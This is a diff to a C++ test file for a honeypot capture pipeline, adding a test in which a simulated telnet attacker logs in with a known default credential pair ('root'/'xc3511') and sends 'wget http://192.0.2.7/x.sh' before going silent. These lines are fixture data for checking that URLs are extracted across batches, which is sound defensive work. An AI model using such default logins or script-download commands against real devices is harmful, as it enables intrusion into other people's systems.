@@ -15,8 +15,9 @@ constexpr std::int64_t kSecond = 1'000'000'000;
 constexpr const char* kClient = "203.0.113.9";
 constexpr const char* kPot = "198.18.9.9";
 
-/// Adds the packets of a conversation on 23/tcp, one a second: handshake, a prompt, what the client says, the end.
-void add_conversation(PcapFile& file, std::int64_t begin_ns, std::uint16_t client_port, const std::vector<std::string>& says) {
+/// Adds the packets of a conversation on 23/tcp, one a second: handshake, a prompt, what the client says, the end if it has one.
+void add_conversation(PcapFile& file, std::int64_t begin_ns, std::uint16_t client_port, const std::vector<std::string>& says,
+                      bool ends = true) {
   std::uint32_t client_seq = 1000, pot_seq = 5000;
   std::int64_t time_ns = begin_ns;
   const auto send = [&](bool client, std::uint8_t flags, std::string_view payload) {
@@ -40,6 +41,7 @@ void add_conversation(PcapFile& file, std::int64_t begin_ns, std::uint16_t clien
   send(true, tcp_flag::kAck, "");
   send(false, tcp_flag::kAck | tcp_flag::kPsh, "\xff\xfd\x1flogin: ");
   for (const std::string& words : says) send(true, tcp_flag::kAck | tcp_flag::kPsh, words);
+  if (!ends) return;
   send(true, tcp_flag::kAck | tcp_flag::kFin, "");
   send(false, tcp_flag::kAck | tcp_flag::kFin, "");
 }
@@ -54,6 +56,17 @@ class PotsTest : public LakeTest {
   }
   /// Everything that the lake says of conversations, without batch numbers.
   std::vector<std::string> sessions() const { return ask("SELECT * EXCLUDE (batch) FROM sessions ORDER BY ALL"); }
+  /// The capture is ingested as it was after each of its packets, and whole.
+  void expect_the_same_however_it_grew(const PcapFile& capture, const std::vector<std::string>& whole) {
+    for (std::size_t first = 1; first < capture.packets(); ++first) {
+      use_lake("grew from " + std::to_string(first));
+      const std::string growing = file("growing.pcap", capture.slice(0, first));
+      pot({growing});
+      file("growing.pcap", capture.content());
+      pot({growing});
+      EXPECT_EQ(sessions(), whole) << first;
+    }
+  }
   std::vector<std::string> payloads() const { return ask("SELECT * EXCLUDE (batch) FROM payloads ORDER BY ALL"); }
   std::vector<std::string> requests() const {
     return ask(
@@ -123,14 +136,32 @@ TEST_F(PotsTest, ACaptureThatGrewEndsInTheSameSessions) {
   const std::string path = file("whole.pcap", capture.content());
   pot({path});
   const auto whole = sessions();
-  for (std::size_t first = 1; first < capture.packets(); ++first) {
-    use_lake("grew from " + std::to_string(first));
-    const std::string growing = file("growing.pcap", capture.slice(0, first));
-    pot({growing});
-    file("growing.pcap", capture.content());
-    pot({growing});
-    EXPECT_EQ(sessions(), whole) << first;
+  expect_the_same_however_it_grew(capture, whole);
+}
+
+/// A conversation that breaks off within a line and falls silent, and another six minutes later.
+PcapFile capture_of_silence() {
+  PcapFile capture;
+  add_conversation(capture, kNov23, 40'000, {"root\r\n", "xc3511\r\n", "wget http://192.0.2.7/x.sh"}, false);
+  add_conversation(capture, kNov23 + 360 * kSecond, 40'001, {"admin\r\n"});
+  return capture;
+}
+
+TEST_F(PotsTest, TheLastWordsOfWhoFallsSilentAreReadWhereverABatchEnds) {
+  const PcapFile capture = capture_of_silence();
+  const std::string path = file("a.pcap", capture.content());
+  pot({path});
+  const auto whole = sessions();
+  ASSERT_EQ(ask("SELECT packets, urls FROM sessions ORDER BY src_port"), (std::vector<std::string>{"7 http://192.0.2.7/x.sh", "7 "}));
+  for (const std::uint64_t packets : {1, 5, 7, 8}) {
+    use_lake("batches of " + std::to_string(packets));
+    pot({path}, {.batch_packets = packets});
+    EXPECT_EQ(sessions(), whole) << packets;
+    Lake lake(lake_folder());
+    ASSERT_TRUE(compact(lake, {}));
+    EXPECT_EQ(sessions(), whole) << packets << ", compacted";
   }
+  expect_the_same_however_it_grew(capture, whole);
 }
 
 TEST_F(PotsTest, CompactionKeepsWhatReadersSee) {
